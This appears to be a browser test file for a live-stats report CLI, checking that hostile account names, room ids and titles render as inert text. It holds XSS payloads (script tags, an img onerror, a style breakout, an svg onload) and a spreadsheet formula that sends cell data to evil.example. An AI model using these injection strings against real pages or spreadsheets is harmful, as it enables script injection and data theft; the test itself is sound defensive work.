// Hostile provider text in a real browser: accounts, a living id and a title made of markup, script, bidi
// overrides, emoji and control characters go through bin/livestats.js into the page (with the sandbox's own
// hostile nicknames), and Chromium shows them as text: no script runs, no dialog opens, nothing is fetched,
// and the page keeps its layout.
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { artifactDir, SKIP_BROWSER, useReportPage } from './browser.js';
import { runCli } from './cli-runner.js';

declare const document: {
  title: string;
  body: { innerText: string; getBoundingClientRect(): { height: number } };
  querySelectorAll(selector: string): { length: number };
  scrollingElement: { scrollWidth: number } | null;
};
declare const window: Record<string, unknown>;

const ACCOUNTS = [
  '<script>window.__pwned = 1</script>',
  '"><img src=x onerror="window.__pwned = 2">',
  '</style><style>body { display: none }</style>',
  '\u202eevil override',
  '\u200fRTL mark \u05e9\u05dc\u05d5\u05dd',
  '🐼熊猫👨‍👩‍👧',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  '\u001b]0;pwn\u0007 title',
];
const ROOM = '<svg onload="window.__pwned = 3">';
const TITLE = '<script>alert("title")</script> & "quotes"';

describe.skipIf(SKIP_BROWSER)('report with hostile text in a browser', () => {
  const report = useReportPage('livestats-hostile-', ACCOUNTS, async ({ file, accountsFile, env }) => {
    const result = await runCli(
      ['report', '--living', 'sandbox-30', '--tencent-room', ROOM, '--accounts-file', accountsFile, '--channel', 'sandbox-12', '--title', TITLE, '--sandbox', '-o', file],
      { env, timeoutMs: 60_000 },
    );
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
  });

  it('shows every hostile string as text and runs none of it', async () => {
    const { page, blocked, errors } = await report.open(1000);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.waitForTimeout(200);
    expect(blocked).toEqual([]);
    expect(errors).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
    expect(await page.evaluate(() => document.querySelectorAll('script, img, iframe, object, embed, link, base').length)).toBe(0);
    expect(await page.evaluate(() => document.title)).toBe(TITLE);

    const text = await page.evaluate(() => document.body.innerText);
    // Markup, formulas, bidi text and emoji appear exactly as the provider sent them; controls as their pictures.
    for (const account of ACCOUNTS.slice(0, 7)) expect(text).toContain(account.replace(/[\u0000-\u001f]/g, (c) => String.fromCharCode(0x2400 + c.charCodeAt(0))));
    expect(text).toContain('\u241b]0;pwn\u2407 title');
    expect(text).toContain(ROOM);
    expect(text).not.toContain('\u001b');
    // The sandbox's own hostile nicknames reach the page too: a red-pack sender that is a spreadsheet formula.
    expect(await page.locator('#polyv td bdi', { hasText: '=HYPERLINK("http://evil.example/' }).count()).toBeGreaterThan(0);

    // The page is intact: every section shown, the </style> name did not hide the body.
    expect(await page.locator('section.source').count()).toBe(3);
    expect(await page.evaluate(() => document.body.getBoundingClientRect().height)).toBeGreaterThan(1000);
    expect(await page.locator('figure.chart').count()).toBe(5);
    await page.screenshot({ path: join(artifactDir(), 'report-hostile.png'), fullPage: true });
    await page.close();
  });

  it('keeps a phone layout with long hostile names', async () => {
    const { page } = await report.open(375);
    expect(await page.evaluate(() => document.scrollingElement!.scrollWidth)).toBeLessThanOrEqual(375);
    await page.close();
  });
});
